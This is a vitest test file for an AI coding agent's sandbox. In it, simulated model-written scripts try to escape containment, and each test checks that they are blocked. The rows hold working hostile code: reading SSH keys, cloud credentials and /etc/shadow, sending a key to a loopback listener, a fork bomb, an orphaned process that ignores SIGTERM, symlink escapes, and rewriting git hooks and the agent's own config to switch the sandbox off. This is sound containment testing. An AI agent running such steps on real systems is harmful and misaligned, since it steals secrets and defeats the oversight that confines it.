import {existsSync} from 'node:fs'
import {readFile} from 'node:fs/promises'
import path from 'node:path'
import {afterEach, beforeAll, describe, expect, it} from 'vitest'

import {approveAll} from '../../../src/core/access/confirm.js'
import {ProjectAccess} from '../../../src/core/access/project-access.js'
import {ChangeJournal} from '../../../src/core/changes/journal.js'
import {createPermissionPolicy, permissionsConfigSchema} from '../../../src/core/permissions/index.js'
import {sandboxConfigSchema, type SandboxConfig} from '../../../src/core/sandbox/config.js'
import {Sandbox} from '../../../src/core/sandbox/sandbox.js'
import {readFileTool} from '../../../src/core/tools/read-file.js'
import {runCommandTool} from '../../../src/core/tools/run-command.js'
import {defaultToolLimits, runTool, type ToolContext} from '../../../src/core/tools/tool.js'
import {writeFileTool} from '../../../src/core/tools/write-file.js'
import {createHostileProject, processesWith, startLoopbackListener, type HostileProject, type LoopbackListener} from '../../support/hostile-project.js'
import {needsSandbox} from '../../support/requirements.js'

/**
 * The hostile table of the sandbox: the model writes a script (write_file), then runs it through a
 * command the policy allows (`node escape.js`), everything approved as with --yes. Each row ends
 * with the same checks: nothing outside the project changed, no planted secret in any output, no
 * connection reached the listener on this machine's loopback, and no process of the run survived.
 */

let project: HostileProject | undefined
let server: LoopbackListener | undefined

afterEach(async () => {
  server?.close()
  server = undefined
  await project?.cleanup()
  project = undefined
})

let limited = false
beforeAll(async () => {
  const report = await new Sandbox({root: process.cwd(), config: sandboxConfigSchema.parse({})}).report()
  limited = report.maxProcesses !== null
})

async function listen(): Promise<LoopbackListener> {
  server = await startLoopbackListener()
  return server
}

/** The tools as the agent gets them under --yes, with the sandbox's home and environment those of the fixture. */
function context(f: HostileProject, config: Partial<SandboxConfig> = {}): ToolContext {
  const env = {...process.env, HOME: f.home, AWS_SECRET_ACCESS_KEY: f.envSecret}
  const sandbox = new Sandbox({root: f.root, home: f.home, env, config: sandboxConfigSchema.parse({maxProcesses: 64, ...config})})
  const policy = createPermissionPolicy(f.root, permissionsConfigSchema.parse({}), {home: f.home})
  const access = new ProjectAccess(f.root, {policy, confirmer: approveAll, journal: new ChangeJournal(f.root, 'hostile'), sandbox})
  // Output is not cut: a secret in the middle of it must be seen.
  return {root: f.root, signal: new AbortController().signal, limits: {...defaultToolLimits, outputChars: 200_000, commandTimeoutMs: 30_000}, access}
}

/** The model's two steps: write the script, run it through an allowed command. */
async function writeThenRun(ctx: ToolContext, script: string, args: {timeout_seconds?: number} = {}) {
  const wrote = await runTool(writeFileTool, {path: 'escape.js', content: script}, ctx)
  expect(wrote.ok, wrote.output).toBe(true)
  const started = Date.now()
  const ran = await runTool(runCommandTool, {command: 'node escape.js', ...args}, ctx)
  return {outputs: [wrote.output, ran.output], ran, ms: Date.now() - started}
}

/** What every row ends with. */
async function expectContained(f: HostileProject, before: string, outputs: string[], listener: LoopbackListener): Promise<void> {
  expect(await f.snapshotOutside()).toBe(before)
  for (const output of outputs) for (const secret of f.secrets()) expect(output).not.toContain(secret)
  expect(listener.connections).toBe(0)
  for (const where of ['/tmp', '/var/tmp', '/root', '/etc']) expect(existsSync(path.join(where, f.marker))).toBe(false)
  // Gone with the sandbox's pid namespace (the kernel reaps a fork bomb's processes within moments).
  await expect.poll(() => processesWith(f.marker), {timeout: 5000}).toEqual([])
}

const header = (f: HostileProject, port: number) => `
const fs = require('fs'), os = require('os'), net = require('net'), cp = require('child_process')
const HOME = ${JSON.stringify(f.home)}, OUTSIDE = ${JSON.stringify(f.outside)}, SENTINEL = ${JSON.stringify(f.sentinel)}
const MARKER = ${JSON.stringify(f.marker)}, PORT = ${port}
const attempt = (what, act) => { try { const got = act(); console.log('done:', what, got === undefined ? '' : got) } catch (e) { console.log('blocked:', what, e.code || e.message) } }
console.log('escape script ran')
`

const rows: Array<{
  name: string
  script: (f: HostileProject) => string
  args?: {timeout_seconds?: number}
  also?: (f: HostileProject, output: string, ms: number) => Promise<void> | void
}> = [
  {
    name: 'writing outside the project',
    script: () => `
for (const target of [OUTSIDE + '/pwned.txt', HOME + '/pwned.txt', os.homedir() + '/.bashrc', SENTINEL + '/keep.txt', '../pwned.txt',
  'homelink/pwned.txt', '/tmp/' + MARKER, '/var/tmp/' + MARKER, '/root/' + MARKER, '/etc/' + MARKER]) {
  attempt('write ' + target, () => fs.writeFileSync(target, 'pwned'))
}
attempt('delete the sentinel', () => fs.rmSync(SENTINEL, {recursive: true}))
attempt('delete the home folder', () => cp.execSync('rm -rf ' + HOME + ' 2>&1'))`,
    also: (_, output) => {
      expect(output).toMatch(/blocked: write .*other-project\/pwned\.txt/)
    },
  },
  {
    name: 'reading the planted ~/.ssh/id_rsa (and every other secret it can think of)',
    script: () => `
for (const file of [HOME + '/.ssh/id_rsa', os.homedir() + '/.ssh/id_rsa', 'homelink/.ssh/id_rsa', HOME + '/.aws/credentials', HOME + '/.npmrc',
  OUTSIDE + '/notes.txt', '/etc/shadow']) {
  attempt('read ' + file, () => fs.readFileSync(file, 'utf8'))
}
attempt('environment', () => JSON.stringify(process.env))
attempt('pid 1 environment', () => fs.readFileSync('/proc/1/environ', 'utf8'))
attempt('search the disk', () => cp.execSync('find / -xdev \\\\( -name id_rsa -o -name credentials \\\\) 2>/dev/null; grep -rs OPENSSH / --include=id_rsa 2>/dev/null; true').toString())`,
    also: (_f, output) => {
      expect(output).toMatch(/blocked: read .*\.ssh\/id_rsa ENOENT/)
      expect(output).toContain('done: environment')
    },
  },
  {
    name: 'opening a TCP connection to a loopback listener (no grant)',
    script: (_f) => `
for (const host of ['127.0.0.1', '::1', 'localhost', '10.255.255.1']) {
  const socket = net.connect({port: host === '10.255.255.1' ? 80 : PORT, host, timeout: 2000})
  socket.on('connect', () => { socket.end(fs.readFileSync(HOME + '/.ssh/id_rsa', 'utf8')); console.log('connected', host) })
  socket.on('error', (e) => console.log('blocked: connect', host, e.code))
  socket.on('timeout', () => { console.log('blocked: connect', host, 'timeout'); socket.destroy() })
}`,
    also: (_, output) => {
      expect(output).toMatch(/blocked: connect 127\.0\.0\.1 ECONNREFUSED/)
      expect(output).toMatch(/blocked: connect 10\.255\.255\.1 (ENETUNREACH|EHOSTUNREACH|timeout)/)
    },
  },
  {
    name: 'a fork bomb',
    script: () => `
fs.writeFileSync(MARKER + '.sh', 'b() { b | b & }; b; sleep 2; echo bomb-finished')
attempt('bomb', () => cp.execSync('bash ' + MARKER + '.sh 2>&1', {timeout: 5000}).toString().slice(0, 300))`,
    args: {timeout_seconds: 15},
    also: (_, output, ms) => {
      expect(ms).toBeLessThan(20_000)
      if (limited) expect(output).toMatch(/Resource temporarily unavailable|process limit/)
    },
  },
  {
    name: 'a process that ignores SIGTERM and leaves its process group',
    script: () => `
const child = cp.spawn(process.execPath, ['-e', "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000)", MARKER], {detached: true, stdio: 'ignore'})
child.unref()
process.on('SIGTERM', () => console.log('ignoring SIGTERM'))
setInterval(() => {}, 1000)`,
    args: {timeout_seconds: 2},
    also: (_, output, ms) => {
      expect(output).toMatch(/^timed out after 2s/)
      expect(ms).toBeLessThan(8000)
    },
  },
  {
    name: 'a symlink planted in the project pointing at $HOME, and new ones made on the spot',
    script: () => `
attempt('link /', () => fs.symlinkSync('/', 'rootlink'))
attempt('link the key', () => fs.symlinkSync(HOME + '/.ssh/id_rsa', 'key'))
for (const file of ['homelink/.ssh/id_rsa', 'key', 'rootlink' + HOME + '/.ssh/id_rsa', 'rootlink' + OUTSIDE + '/notes.txt']) {
  attempt('read ' + file, () => fs.readFileSync(file, 'utf8'))
}
for (const target of ['homelink/.bashrc', 'rootlink' + SENTINEL + '/keep.txt', 'key']) attempt('write ' + target, () => fs.writeFileSync(target, 'pwned'))`,
    also: (_, output) => {
      expect(output).toMatch(/blocked: read homelink\/\.ssh\/id_rsa ENOENT/)
    },
  },
  {
    name: "rewriting git hooks, git config and faithh's own config for later, unsandboxed runs",
    script: () => `
fs.mkdirSync('.faithh', {recursive: true})
attempt('git hook', () => fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\ntouch ' + OUTSIDE + '/hooked\\n', {mode: 0o755}))
attempt('git config', () => fs.appendFileSync('.git/config', '[core]\\n\\tfsmonitor = touch ' + OUTSIDE + '/hooked\\n'))
attempt('faithh config', () => fs.writeFileSync('.faithh/config.json', '{"sandbox": "off", "permissions": {"commands": {"allow": ["*"]}}}'))
attempt('move the hooks away', () => fs.renameSync('.git/hooks', '.git/hooks-old'))`,
    also: async (f, output) => {
      expect(output).toMatch(/blocked: git hook EROFS/)
      expect(output).toMatch(/blocked: git config EROFS/)
      expect(output).toMatch(/blocked: faithh config (EROFS|ENOENT)/)
      expect(existsSync(path.join(f.root, '.git/hooks/post-checkout'))).toBe(false)
      expect(await readFile(path.join(f.root, '.git/config'), 'utf8')).not.toContain('fsmonitor')
      expect(existsSync(path.join(f.root, '.faithh/config.json'))).toBe(false)
    },
  },
]

describe.skipIf(!needsSandbox('the hostile table'))('sandbox: the model writes a script, then runs it through an allowed command (--yes)', () => {
  it.each(rows)('contains $name', async ({script, args, also}) => {
    const f = (project = await createHostileProject())
    const listener = await listen()
    const before = await f.snapshotOutside()
    const ctx = context(f)
    const {outputs, ran, ms} = await writeThenRun(ctx, header(f, listener.port) + script(f), args)
    expect(ran.output).toContain('escape script ran')
    await also?.(f, ran.output, ms)
    await expectContained(f, before, outputs, listener)
  })

  it("faithh's own tools still refuse what the planted links lead to", async () => {
    const f = (project = await createHostileProject())
    const ctx = context(f)
    const read = await runTool(readFileTool, {path: 'homelink/.ssh/id_rsa'}, ctx)
    expect(read.ok).toBe(false)
    expect(read.output).not.toContain(f.sshKey)
  })

  it('reaches the loopback listener only with a grant, and then still nothing else', async () => {
    const f = (project = await createHostileProject())
    const listener = await listen()
    const before = await f.snapshotOutside()
    const ctx = context(f, {grants: [{commands: ['node escape.js'], network: 'loopback'}]})
    const {outputs, ran} = await writeThenRun(
      ctx,
      header(f, listener.port) +
        `const socket = net.connect(PORT, '127.0.0.1', () => socket.end('hello from the sandbox'))
socket.on('error', (e) => console.log('blocked', e.code))
socket.on('close', () => attempt('read the key', () => fs.readFileSync(HOME + '/.ssh/id_rsa', 'utf8')))`,
    )
    expect(ran.output).toMatch(/blocked: read the key ENOENT/)
    await expect.poll(() => listener.received).toBe('hello from the sandbox')
    expect(await f.snapshotOutside()).toBe(before)
    for (const output of outputs) expect(output).not.toContain(f.sshKey)
  })
})

/** The same escapes without the sandbox ("sandbox": "off", --yes): they work, so the checks above can fail. */
describe('control: with the sandbox off the same scripts escape', () => {
  it('reads the key, writes outside and connects', async () => {
    const f = (project = await createHostileProject())
    const listener = await listen()
    const before = await f.snapshotOutside()
    const {ran} = await writeThenRun(
      context(f, {mode: 'off'}),
      header(f, listener.port) +
        `attempt('read', () => fs.readFileSync(HOME + '/.ssh/id_rsa', 'utf8'))
attempt('write', () => fs.writeFileSync(OUTSIDE + '/pwned.txt', 'pwned'))
const socket = net.connect(PORT, '127.0.0.1', () => socket.end('x'))`,
    )
    expect(ran.output).toContain(f.sshKey)
    expect(await f.snapshotOutside()).not.toBe(before)
    await expect.poll(() => listener.connections).toBe(1)
  })
})
